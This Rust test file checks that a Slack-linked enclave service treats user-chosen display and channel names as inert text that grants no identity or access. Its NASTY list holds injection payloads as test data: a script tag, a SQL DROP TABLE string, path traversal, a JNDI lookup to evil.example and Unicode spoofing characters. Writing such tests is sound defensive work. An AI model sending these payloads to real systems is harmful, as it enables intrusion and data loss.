//! Names that people choose: of themselves, of channels, of anything. They are shown, and mean nothing.

use crate::app::{App, until};
use crate::door::{Door, InChannel, account};
use crate::team::{hello, set_up};
use jiff::Timestamp;
use serde_json::{Value, json};
use wire::FailureCode;

/// What somebody might call themselves, or a channel.
const NASTY: [&str; 16] = [
    "payroll",
    "<@UANA>",
    "<!channel> please approve",
    "UANA",
    "`payroll`",
    "<script>alert(1)</script>",
    "price-watch\u{0000}payroll",
    "line\nbreak\r\n{\"code\":\"ok\"}",
    "\u{202e}gnp.exe\u{200b}",
    "\u{1b}[31mred\u{1b}[0m",
    "'; DROP TABLE enclave; --",
    "../../payroll",
    "${jndi:ldap://evil.example}",
    "{{owner}} %s %n $1",
    "ana@example.com",
    "",
];

/// How a name is kept: PostgreSQL takes no NUL.
fn kept(name: &str) -> String {
    name.replace('\0', "\u{fffd}")
}

/// The relay reports #price-watch with these people: Slack user, class and shown name.
async fn report(door: &Door, people: &[(&str, &str, &str)]) -> Value {
    let members: Vec<Value> = people
        .iter()
        .map(|(user, class, name)| json!({"user": user, "class": class, "name": name}))
        .collect();
    let args = json!({"team": "T1", "channel": "C1", "observed_at": Timestamp::now(), "members": members});
    door.relay("channel_report", args).await.unwrap()
}

async fn verdicts(app: &App) -> Vec<String> {
    app.database.rows().await["verdict"].clone()
}

async fn add(channel: &InChannel<'_>, whom: &str) -> Result<Value, wire::Failure> {
    channel.say("ana", "enclave_sync", json!({"add_members": [whom]})).await
}

async fn a_mention_means_the_account_whoever_calls_themselves_so(app: App) {
    let channel = set_up(&app).await;
    // ben has left, and mallory shows up under what a mention of ben looks like
    for shown in ["UBEN", "<@UBEN>", "@UBEN"] {
        report(&app, &[("UANA", "full", "ana"), ("UMALLORY", "full", shown)]).await;
        for mention in ["<@UBEN>", "UBEN", "@UBEN"] {
            add(&channel, mention).await.unwrap();
            let [only] = &verdicts(&app).await[..] else { panic!("{:?}", verdicts(&app).await) };
            assert!(only.contains("account=UBEN") && only.contains("subject=ben"), "{only}");
            channel.say("ana", "enclave_sync", json!({"remove_members": [mention]})).await.unwrap();
        }
    }
}

async fn an_address_or_a_subject_means_its_identity_whoever_calls_themselves_so(app: App) {
    let channel = set_up(&app).await;
    let before = verdicts(&app).await;
    report(&app, &[("UANA", "full", "ana"), ("UMALLORY", "full", "ben@example.com")]).await;
    assert_eq!(add(&channel, "ben@example.com").await.unwrap_err().code, FailureCode::NotFound);
    report(&app, &[("UANA", "full", "ana"), ("UMALLORY", "full", "ben")]).await;
    let refused = add(&channel, "ben").await.unwrap_err();
    assert!(refused.message.contains("more than one person here is called `ben`"), "{}", refused.message);
    report(&app, &[("UANA", "full", "ana"), ("UMALLORY", "full", "sam"), ("USAM", "full", "sam")]).await;
    assert_eq!(add(&channel, "sam").await.unwrap_err().code, FailureCode::Invalid);
    assert_eq!(verdicts(&app).await, before);
    report(&app, &[("UANA", "full", "ana"), ("UMALLORY", "full", "mallory")]).await;
    add(&channel, "Mallory").await.unwrap();
    assert!(verdicts(&app).await[0].contains("account=UMALLORY"));
}

async fn what_people_call_themselves_is_shown_as_it_is_and_moves_nothing(app: App) {
    let channel = set_up(&app).await;
    app.call(&app.agent("cy"), "enclave_provision", json!({"name": "payroll"})).await.unwrap();
    for shown in NASTY {
        report(&app, &[("UANA", "full", "ana"), ("UBEN", "full", shown), ("UMALLORY", "full", shown)]).await;
        let info = channel.say("ben", "enclave_info", json!({})).await.unwrap();
        let people = info["people"].as_array().unwrap();
        let shown_as: Vec<&Value> = people.iter().filter(|one| one["name"] == kept(shown)).collect();
        assert!(shown_as.len() == 2, "{shown:?}: {people:?}");
        assert_eq!(
            (&info["name"], &info["your_class"]),
            (&json!("price-watch"), &json!("member")),
            "{shown:?}"
        );
        let cy = app.call(&app.agent("cy"), "enclave_info", json!({"name": "payroll"})).await.unwrap();
        assert_eq!(cy["members"], json!(["cy"]), "{shown:?}");
    }
    // the same in a token
    for shown in NASTY {
        let mut claims = app.issuer.claims("mallory", "agents");
        claims["name"] = json!(shown);
        let who = app.call(&app.issuer.sign(&claims), "whoami", json!({})).await.unwrap();
        assert_eq!(
            (&who["kind"], &who["subject"], &who["name"]),
            (&json!("person"), &json!("mallory"), &json!(shown))
        );
    }
}

async fn a_channel_called_like_an_enclave_does_not_become_it(app: App) {
    set_up(&app).await;
    app.sign_in("cy").await.unwrap();
    // What is shown of an enclave where it runs follows by itself.
    until("it is shown", async || !app.database.holds().await["enclave"][0].contains(" mirror_made=0 "))
        .await;
    let before = (app.database.holds().await, app.backend.world().clone());
    let mut channels = NASTY.to_vec();
    channels.extend([
        "price-watch",
        "Price-Watch",
        "price watch",
        "kube-system",
        "default",
        "a..b",
        "-a",
        "a-",
    ]);
    for name in channels {
        let channel = app.channel("C9", name, &account("cy"));
        match channel.say("cy", "enclave_provision", json!({})).await {
            Err(refused) => assert!(
                matches!(refused.code, FailureCode::Invalid | FailureCode::Conflict),
                "{name:?}: {refused:?}"
            ),
            Ok(made) => {
                assert_eq!(made["name"], "payroll", "only this one can be an enclave's name");
                channel.say("cy", "enclave_deprovision", json!({"confirm": "payroll"})).await.unwrap();
            }
        }
        assert_eq!(
            channel.say("cy", "enclave_info", json!({})).await.unwrap_err().code,
            FailureCode::NotFound
        );
    }
    assert_eq!((app.database.holds().await, app.backend.world().clone()), before);
}

async fn a_channel_that_is_renamed_stays_where_it_is(app: App) {
    let channel = set_up(&app).await;
    app.call(&app.agent("cy"), "enclave_provision", json!({"name": "payroll"})).await.unwrap();
    for name in NASTY {
        let args = json!({"team": "T1", "channel": "C1", "observed_at": Timestamp::now(), "name": name});
        app.relay("channel_report", args).await.unwrap();
        let info = channel.say("ana", "enclave_info", json!({})).await.unwrap();
        assert_eq!((&info["name"], &info["channel_name"]), (&json!("price-watch"), &json!(kept(name))));
        let renamed = app.channel("C1", name, &account("ana"));
        assert_eq!(renamed.say("ana", "enclave_info", json!({})).await.unwrap()["name"], "price-watch");
    }
    let map = app.relay("channel_map", json!({})).await.unwrap();
    assert_eq!(
        map["channels"],
        json!([{"team": "T1", "channel": "C1", "enclave": "price-watch", "status": "active"}])
    );
}

async fn a_name_of_the_wrong_shape_is_refused_before_anything_is_asked(app: App) {
    set_up(&app).await.say("ana", "wf_apply", hello("hello", "hi")).await.unwrap();
    let before = (app.database.holds().await, app.backend.world().clone());
    let long = "a".repeat(5_000);
    let shapes = [
        "../price-watch",
        "price-watch/",
        "PRICE-WATCH",
        "price_watch",
        " price-watch",
        "price-watch\n",
        "é",
        "",
        &long,
    ];
    for name in shapes.into_iter().chain(NASTY.into_iter().filter(|name| *name != "payroll")) {
        for (tool, args) in [
            ("enclave_info", json!({"name": name})),
            ("enclave_freeze", json!({"enclave": name})),
            ("wf_list", json!({"namespace": name})),
            ("wf_run", json!({"enclave": "price-watch", "name": name})),
            ("trail_tail", json!({"enclave": name})),
            ("enclave_provision", json!({"name": name})),
        ] {
            let refused = app.call(&app.agent("ana"), tool, args).await.unwrap_err();
            assert_eq!(refused.code, FailureCode::Invalid, "{tool} {name:?}: {refused:?}");
        }
    }
    assert_eq!((app.database.holds().await, app.backend.world().clone()), before);
}

crate::on_both_stores! {
    a_mention_means_the_account_whoever_calls_themselves_so
    an_address_or_a_subject_means_its_identity_whoever_calls_themselves_so
    what_people_call_themselves_is_shown_as_it_is_and_moves_nothing
    a_channel_called_like_an_enclave_does_not_become_it
    a_channel_that_is_renamed_stays_where_it_is
    a_name_of_the_wrong_shape_is_refused_before_anything_is_asked
}
